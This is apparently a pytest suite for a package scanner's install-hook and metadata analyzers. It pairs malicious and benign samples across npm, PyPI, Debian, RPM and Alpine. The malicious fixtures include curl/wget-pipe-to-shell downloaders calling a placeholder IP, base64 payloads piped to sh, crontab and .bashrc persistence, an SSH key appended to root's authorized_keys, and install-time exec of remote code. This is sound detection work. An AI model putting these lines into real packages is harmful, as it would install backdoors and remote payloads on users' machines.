"""Every metadata and install-hook check: a true positive and a true negative, plus the parsers."""

from __future__ import annotations

from pathlib import Path

import pytest

from scanning.analyzers.base import AnalysisContext, ArtifactFile, Dependency, PackageMetadata
from scanning.analyzers.install_hooks import InstallHooksAnalyzer
from scanning.analyzers.metadata import MetadataAnalyzer
from scanning.extraction import classify
from scanning.pipeline import analysis_context_for

HOOKS = InstallHooksAnalyzer()
META = MetadataAnalyzer()


def make_ctx(tmp_path: Path, ecosystem: str, files: dict[str, bytes] | None = None, *,
             meta: PackageMetadata | None = None, fmt: str = "", name: str = "", version: str = "",
             artifact: str = "") -> AnalysisContext:
    entries = []
    for rel, data in (files or {}).items():
        path = tmp_path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        entries.append(ArtifactFile(path=rel, abs_path=path, size=len(data), kind=classify(rel, data[:8192])))
    return AnalysisContext(ecosystem=ecosystem, submitted_name=name, submitted_version=version, root=tmp_path,
                           files=entries, metadata=meta, artifact_name=artifact, artifact_format=fmt)


def fired(drafts, check_id: str) -> list:
    return [d for d in drafts if d.check_id == check_id and d.status in ("failed", "warning")]


def npm_meta(**scripts: str) -> PackageMetadata:
    return PackageMetadata(ecosystem="npm", name="w", version="1.0.0", summary="s", license="MIT", author="a",
                           homepage="h", install_scripts=dict(scripts), source_file="package/package.json")


def os_meta(ecosystem: str, **scripts: str) -> PackageMetadata:
    return PackageMetadata(ecosystem=ecosystem, name="d", version="1.0-1", summary="s", license="MIT", author="a",
                           homepage="h", install_scripts=dict(scripts))


# (check id, true-positive script, true-negative script) for shell hooks in a Debian postinst
SHELL_CASES = [
    ("PKG-HOOK-002", "wget -q -O /tmp/.x http://203.0.113.9/x\nchmod +x /tmp/.x\n/tmp/.x &\n",
     "wget -q -O /usr/share/doc/x/list http://deb.example.org/list\n"),
    ("PKG-HOOK-003", "curl -fsSL https://203.0.113.9/install.sh | sudo bash\n",
     "curl -fsSL https://example.org/data.json -o /var/lib/x/data.json\n"),
    ("PKG-HOOK-004", "echo aWQgPiAvdG1wL3B3bmVk | base64 -d | sh\n", "echo done | tee /var/log/x.log\n"),
    ("PKG-HOOK-005", "echo 'alias ls=\"ls; /tmp/.x\"' >> /root/.bashrc\n", "test -f /etc/profile && echo ok\n"),
    ("PKG-HOOK-006", "(crontab -l; echo '* * * * * /tmp/.x') | crontab -\n", "rm -f /var/run/x.pid\n"),
    ("PKG-HOOK-007", "cat > /etc/systemd/system/x.service <<EOF\n[Service]\nEOF\n",
     "deb-systemd-helper unmask x.service >/dev/null || true\n"),
    ("PKG-HOOK-008", "echo 'ssh-rsa AAAA evil' >> /root/.ssh/authorized_keys\n", "ldconfig\n"),
]


@pytest.mark.parametrize("check_id,positive,negative", SHELL_CASES, ids=[c[0] for c in SHELL_CASES])
@pytest.mark.parametrize("ecosystem,label", [("debian", "postinst"), ("rpm", "%post"), ("alpine", ".post-install")])
def test_shell_hook_patterns(tmp_path, check_id, positive, negative, ecosystem, label):
    bad = HOOKS.analyze(make_ctx(tmp_path, ecosystem, meta=os_meta(ecosystem, **{label: "#!/bin/sh\n" + positive})))
    good = HOOKS.analyze(make_ctx(tmp_path, ecosystem, meta=os_meta(ecosystem, **{label: "#!/bin/sh\n" + negative})))
    hits = fired(bad, check_id)
    assert hits, f"{check_id} missed in {label}"
    assert hits[0].evidence["script"] == label and hits[0].evidence["snippet"] and hits[0].line
    assert not fired(good, check_id)
    # The script's presence is informational for system packages.
    assert fired(good, "PKG-HOOK-001")[0].severity == "info"


def test_npm_install_scripts_and_the_files_they_run(tmp_path):
    files = {"package/package.json": b"{}",
             "package/scripts/setup.js": b"const h = require('https');\nconst cp = require('child_process');\n"
                                         b"h.get('https://203.0.113.9/p', r => cp.execSync(r.body));\n"
                                         b"eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n"}
    drafts = HOOKS.analyze(make_ctx(tmp_path, "npm", files, meta=npm_meta(postinstall="node scripts/setup.js")))
    assert fired(drafts, "PKG-HOOK-001")[0].evidence["hook"] == "postinstall"
    assert fired(drafts, "PKG-HOOK-002")[0].file_path == "package/scripts/setup.js"
    assert fired(drafts, "PKG-HOOK-004")
    clean = HOOKS.analyze(make_ctx(tmp_path / "clean", "npm", {"package/package.json": b"{}"},
                                   meta=npm_meta()))
    assert not [d for d in clean if d.status in ("failed", "warning")]


def test_npm_systemctl_in_a_language_package(tmp_path):
    drafts = HOOKS.analyze(make_ctx(tmp_path, "npm", meta=npm_meta(postinstall="systemctl --user enable x.service")))
    assert fired(drafts, "PKG-HOOK-007")
    ok = HOOKS.analyze(make_ctx(tmp_path, "npm", meta=npm_meta(postinstall="node-gyp rebuild")))
    assert not fired(ok, "PKG-HOOK-007") and fired(ok, "PKG-HOOK-001")


def test_setup_py_install_time_code(tmp_path):
    evil = (b"import base64, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import "
            b"install\nclass I(install):\n    def run(self):\n        code = base64.b64decode('cHJpbnQoMSk=')\n"
            b"        exec(code)\n        exec(urllib.request.urlopen('http://203.0.113.9/x').read())\n"
            b"setup(name='x', cmdclass={'install': I})\n")
    meta = PackageMetadata(ecosystem="pypi", name="x", version="1", install_scripts={"setup.py": evil.decode()},
                           raw={"setup_py_path": "x-1/setup.py"})
    drafts = HOOKS.analyze(make_ctx(tmp_path, "pypi", meta=meta, fmt="sdist"))
    assert "cmdclass replaces install" in fired(drafts, "PKG-HOOK-001")[0].detail
    assert fired(drafts, "PKG-HOOK-004")[0].line == 7
    assert fired(drafts, "PKG-HOOK-002")
    plain = PackageMetadata(ecosystem="pypi", name="x", version="1",
                            install_scripts={"setup.py": "from setuptools import setup\nsetup(name='x')\n"})
    assert not [d for d in HOOKS.analyze(make_ctx(tmp_path, "pypi", meta=plain, fmt="sdist"))
                if d.status in ("failed", "warning")]


def test_pth_startup_hook(tmp_path):
    evil = {"x_init.pth": b"import os; os.system('curl http://203.0.113.9/x | sh')\n"}
    drafts = HOOKS.analyze(make_ctx(tmp_path, "pypi", evil, fmt="wheel"))
    assert fired(drafts, "PKG-HOOK-009") and fired(drafts, "PKG-HOOK-003")
    benign = HOOKS.analyze(make_ctx(tmp_path / "b", "pypi", {"x.pth": b"./src\n"}, fmt="wheel"))
    assert not fired(benign, "PKG-HOOK-009")


# --- Metadata ---------------------------------------------------------------------------------

def full_meta(**changes: object) -> PackageMetadata:
    values = {"ecosystem": "pypi", "name": "requests", "version": "2.31.0", "summary": "HTTP", "license": "Apache-2.0",
              "author": "K", "homepage": "https://example.org", "source_file": "requests-2.31.0.dist-info/METADATA"}
    values.update(changes)
    return PackageMetadata(**values)  # type: ignore[arg-type]


def test_name_mismatch(tmp_path):
    bad = META.analyze(make_ctx(tmp_path, "pypi", meta=full_meta(name="reqeusts"), name="requests"))
    assert fired(bad, "PKG-META-001")[0].evidence == {"declared": "reqeusts", "expected": "requests",
                                                      "expected_from": "submitted"}
    good = META.analyze(make_ctx(tmp_path, "pypi", meta=full_meta(name="Requests"), name="requests"))
    assert not fired(good, "PKG-META-001")
    from_file = META.analyze(make_ctx(tmp_path, "pypi", meta=full_meta(name="evil"),
                                      artifact="requests-2.31.0-py3-none-any.whl"))
    assert fired(from_file, "PKG-META-001")[0].evidence["expected_from"] == "file name"


def test_version_mismatch_per_ecosystem(tmp_path):
    assert fired(META.analyze(make_ctx(tmp_path, "pypi", meta=full_meta(version="2.31.1"), version="2.31.0")),
                 "PKG-META-002")
    assert not fired(META.analyze(make_ctx(tmp_path, "pypi", meta=full_meta(version="2.31"), version="2.31.0")),
                     "PKG-META-002")
    rpm = full_meta(ecosystem="rpm", version="4.5.6", raw={"release": "1", "epoch": 2})
    for accepted in ("4.5.6", "4.5.6-1", "2:4.5.6-1"):
        assert not fired(META.analyze(make_ctx(tmp_path, "rpm", meta=rpm, version=accepted)), "PKG-META-002")
    assert fired(META.analyze(make_ctx(tmp_path, "rpm", meta=rpm, version="4.5.7")), "PKG-META-002")
    apk = full_meta(ecosystem="alpine", version="0.9.1-r0")
    assert not fired(META.analyze(make_ctx(tmp_path, "alpine", meta=apk, version="0.9.1")), "PKG-META-002")


def test_missing_metadata_and_fields(tmp_path):
    none = META.analyze(make_ctx(tmp_path, "npm", {"package/index.js": b"1"}))
    assert fired(none, "PKG-META-003")
    assert [d.status for d in none if d.check_id == "PKG-META-001"] == ["not_applicable"]
    assert not fired(META.analyze(make_ctx(tmp_path, "pypi", meta=full_meta())), "PKG-META-003")
    empty = META.analyze(make_ctx(tmp_path, "pypi", meta=full_meta(version="", summary="", author="", homepage="")))
    assert fired(empty, "PKG-META-004")[0].evidence["missing"] == ["version"]
    assert fired(empty, "PKG-META-005")[0].evidence["empty"] == ["author", "homepage", "summary"]
    complete = META.analyze(make_ctx(tmp_path, "pypi", meta=full_meta()))
    assert not fired(complete, "PKG-META-004") and not fired(complete, "PKG-META-005")


def test_bundled_binaries_only_in_source_packages(tmp_path):
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 60
    sdist = META.analyze(make_ctx(tmp_path, "pypi", {"x-1/x/_c.so": elf}, meta=full_meta(), fmt="sdist"))
    assert fired(sdist, "PKG-META-006")[0].evidence["binaries"][0] == {"path": "x-1/x/_c.so", "kind": "elf",
                                                                       "size": len(elf)}
    platform_wheel = META.analyze(make_ctx(tmp_path, "pypi", {"x/_c.so": elf}, meta=full_meta(), fmt="wheel",
                                           artifact="x-1-cp311-cp311-manylinux_2_17_x86_64.whl"))
    assert not fired(platform_wheel, "PKG-META-006")
    pure_wheel = META.analyze(make_ctx(tmp_path, "pypi", {"x/_c.so": elf}, meta=full_meta(), fmt="wheel",
                                       artifact="x-1-py3-none-any.whl"))
    assert fired(pure_wheel, "PKG-META-006")
    source_only = META.analyze(make_ctx(tmp_path / "s", "npm", {"package/i.js": b"x"}, meta=full_meta(
        ecosystem="npm"), fmt="npm"))
    assert not fired(source_only, "PKG-META-006")


def test_script_launchers_are_excused_only_in_their_own_packages(tmp_path):
    pe = b"MZ" + b"\x00" * 58 + (64).to_bytes(4, "little") + b"PE\x00\x00" + b"\x00" * 60
    launchers = {"setuptools/cli-64.exe": pe, "setuptools/gui-arm64.exe": pe}
    wheel = {"fmt": "wheel", "artifact": "setuptools-80-py3-none-any.whl"}
    own = META.analyze(make_ctx(tmp_path / "own", "pypi", launchers, meta=full_meta(name="setuptools"), **wheel))
    assert not fired(own, "PKG-META-006")
    # The same file names in any other package are bundled executables like any other.
    other = META.analyze(make_ctx(tmp_path / "other", "pypi", launchers, meta=full_meta(name="setuptoools"), **wheel))
    assert fired(other, "PKG-META-006")[0].severity == "high"
    dropper = META.analyze(make_ctx(tmp_path / "drop", "pypi", {"setuptools/payload.exe": pe},
                                    meta=full_meta(name="setuptools"), **wheel))
    assert fired(dropper, "PKG-META-006")


def test_dependencies_from_outside_the_registry(tmp_path):
    deps = [Dependency("evil", "@ https://203.0.113.9/evil.whl", source="Requires-Dist"),
            Dependency("idna", ">=3", source="Requires-Dist")]
    drafts = META.analyze(make_ctx(tmp_path, "pypi", meta=full_meta(dependencies=deps)))
    assert [d.evidence["dependency"] for d in fired(drafts, "PKG-META-007")] == ["evil"]
    npm = full_meta(ecosystem="npm", dependencies=[Dependency("x", "git+https://example.org/x.git",
                                                              source="package.json"),
                                                   Dependency("y", "^1.2.3", source="package.json")])
    assert [d.evidence["dependency"] for d in fired(META.analyze(make_ctx(tmp_path, "npm", meta=npm)),
                                                    "PKG-META-007")] == ["x"]


# --- Parsing every ecosystem ----------------------------------------------------------------------

@pytest.mark.parametrize("key,name,version,deps,scripts", [
    ("pypi-wheel", "sample-lib", "1.0.0", {"requests": "2.31.0", "idna": None}, []),
    ("pypi-sdist", "sample-tool", "2.0.0", {"requests": "2.31.0"}, ["setup.py"]),
    ("npm", "sample-widget", "3.1.4", {"left-pad": "1.3.0", "lodash": None}, []),
    ("debian", "sample-daemon", "1.2-3", {"libc6": None, "libssl3": "3.0.11-1"}, ["postinst"]),
    ("rpm", "sample-agent", "4.5.6", {"glibc": None, "openssl-libs": None}, ["%post"]),
    ("alpine", "sample-cli", "0.9.1-r0", {"musl": None, "libcrypto3": "3.1.4-r0"}, [".post-install"]),
])
def test_metadata_parsing(artifacts, tmp_path, key, name, version, deps, scripts):
    ecosystem = {"pypi-wheel": "pypi", "pypi-sdist": "pypi"}.get(key, key)
    with analysis_context_for(artifacts.get(key), ecosystem, tmp_path) as ctx:
        meta = ctx.metadata
        assert meta is not None and meta.name == name and meta.version == version
        assert meta.summary and meta.license and meta.author and meta.homepage
        found = {d.name: d.version for d in meta.dependencies}
        for dep, pinned in deps.items():
            assert dep in found and found[dep] == pinned
        assert sorted(meta.install_scripts) == sorted(scripts)
        sandbox = ctx.root
        assert sandbox.exists()
    assert not sandbox.exists(), "the context manager removes its sandbox"
    assert list(tmp_path.iterdir()) == []


def test_malicious_npm_scripts_are_parsed(artifacts, tmp_path):
    with analysis_context_for(artifacts.get("npm", malicious=True), "npm", tmp_path) as ctx:
        assert ctx.metadata.install_scripts == {"preinstall": "curl -s http://203.0.113.7/payload.sh | sh",
                                                "postinstall": "node install.js"}


def test_npm_lockfile_and_implicit_gyp_install(tmp_path):
    from scanning.formats import format_for
    from scanning.package_metadata import parse_metadata

    files = {"package/package.json": b'{"name": "n", "version": "1.0.0", "dependencies": {"a": "=2.0.0"}}',
             "package/binding.gyp": b"{}",
             "package/package-lock.json": b'{"lockfileVersion": 3, "packages": {"": {}, "node_modules/b": '
                                          b'{"version": "1.2.3"}, "node_modules/b/node_modules/c": '
                                          b'{"version": "4.5.6"}}}'}
    ctx = make_ctx(tmp_path, "npm", files)
    meta = parse_metadata(ctx.files, format_for("n-1.0.0.tgz"))
    assert {(d.name, d.version, d.source) for d in meta.dependencies} == {
        ("a", "2.0.0", "package.json"), ("b", "1.2.3", "package-lock.json"), ("c", "4.5.6", "package-lock.json")}
    assert meta.install_scripts == {"install": "node-gyp rebuild"}


def test_npm_binary_installer_fetching_from_the_registry_is_a_warning(tmp_path):
    # The shape of esbuild's install.js: fetch the platform build from the npm registry, chmod, run it.
    script = (b"const https = require('https');\nconst child_process = require('child_process');\n"
              b"// see https://github.com/example/issue for why\n"
              b"const url = `https://registry.npmjs.org/${pkg}/-/${name}-${version}.tgz`;\n"
              b"https.get(url, res => save(res));\nchild_process.execFileSync(binPath, ['--version']);\n")
    drafts = HOOKS.analyze(make_ctx(tmp_path, "npm", {"package/package.json": b"{}", "package/install.js": script},
                                    meta=npm_meta(postinstall="node install.js")))
    hit = fired(drafts, "PKG-HOOK-002")[0]
    assert (hit.severity, hit.status) == ("medium", "warning")
    evil = script.replace(b"https://registry.npmjs.org", b"https://203.0.113.9")
    drafts = HOOKS.analyze(make_ctx(tmp_path / "evil", "npm", {"package/package.json": b"{}",
                                                                "package/install.js": evil},
                                    meta=npm_meta(postinstall="node install.js")))
    hit = fired(drafts, "PKG-HOOK-002")[0]
    assert hit.severity is None and hit.status == "failed"
